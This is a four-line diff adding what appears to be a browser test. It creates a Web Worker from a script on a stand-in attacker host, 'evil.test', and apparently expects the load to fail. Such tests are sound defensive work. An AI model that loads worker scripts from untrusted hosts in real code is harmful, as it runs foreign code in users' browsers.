@@ -1,0 +1,4 @@
+// A worker from an address.
+
+const w = new Worker('http://evil.test/x.js');
+await new Promise((r) => (w.onerror = r));
